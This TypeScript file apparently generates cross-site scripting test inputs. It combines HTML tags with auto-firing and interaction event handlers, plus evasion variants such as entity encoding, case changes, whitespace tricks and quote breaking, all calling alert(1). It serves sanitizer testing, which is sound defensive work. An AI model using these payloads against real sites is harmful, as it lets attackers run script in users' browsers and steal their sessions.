/** What every event handler runs. */
const call = 'alert(1)';

const elements = [
  'a',
  'b',
  'p',
  'h2',
  'li',
  'td',
  'img',
  'video',
  'audio',
  'iframe',
  'svg',
  'math',
  'table',
  'details',
  'figure',
  'custom-x',
];
const firesByItself: Record<string, string> = {
  onerror: '<img src=x HANDLER>',
  onload: '<svg HANDLER>',
  onloadstart: '<video src=x HANDLER></video>',
  ontoggle: '<details open HANDLER>x</details>',
  onfocus: '<input autofocus HANDLER>',
  onfocusin: '<a href=# autofocus tabindex=0 HANDLER>x</a>',
  onblur: '<input autofocus HANDLER><input autofocus>',
  onbegin: '<svg><animate attributeName=x dur=1s HANDLER></svg>',
  onanimationstart: '<p style="animation:fade 1s" HANDLER>x</p>',
  ontransitionend: '<p style="transition:all 1s" HANDLER>x</p>',
  onstart: '<marquee HANDLER>x</marquee>',
  onpageshow: '<body HANDLER>',
  onscroll: '<body HANDLER><br><input autofocus>',
  onresize: '<body HANDLER>',
  onhashchange: '<body HANDLER>',
  onmessage: '<body HANDLER>',
  onbeforeunload: '<body HANDLER>',
  onpopstate: '<body HANDLER>',
  oncanplay: '<audio autoplay HANDLER><source src=x></audio>',
  onwebkitanimationstart: '<p style="-webkit-animation:fade 1s" HANDLER>x</p>',
  oncontentvisibilityautostatechange: '<p style="content-visibility:auto" HANDLER>x</p>',
  onsecuritypolicyviolation: '<body HANDLER>',
  onslotchange: '<slot HANDLER></slot>',
  onbeforetoggle: '<p popover id=pop HANDLER>x</p>',
};
const onTouch = [
  ...[
    'onclick',
    'ondblclick',
    'onmousedown',
    'onmouseup',
    'onmouseover',
    'onmouseenter',
    'onmousemove',
    'onmouseout',
    'onwheel',
    'oncontextmenu',
  ],
  ...[
    'onpointerdown',
    'onpointerover',
    'onpointerenter',
    'onpointermove',
    'onauxclick',
    'ondrag',
    'ondrop',
    'ontouchstart',
    'onkeydown',
    'oncopy',
  ],
  ...['onpaste', 'oncut', 'oninput', 'onchange', 'onsubmit', 'oninvalid', 'onselect', 'onplay', 'onended', 'onselectstart'],
];
const ways = [
  (name: string) => `${name}=${call}`,
  (name: string) => `${name}="${call}"`,
  (name: string) => `${name.toUpperCase()}='${call}'`,
  (name: string) => `/${name}=${call}//`,
  (name: string) => `\n${name}\t=\n${call}`,
  (name: string) => `${name}=&#97;lert(1)`,
  (name: string) => `x="\\"${name}="${call}"`,
];

export const byItself = Object.entries(firesByItself).flatMap(([name, markup]) => ways.map((way) => markup.replace('HANDLER', way(name))));

export const byTouch = elements.flatMap((element, place) =>
  onTouch.filter((_, index) => index % 3 === place % 3).map((name) => `<${element} ${name}="${call}">x</${element}>`),
);
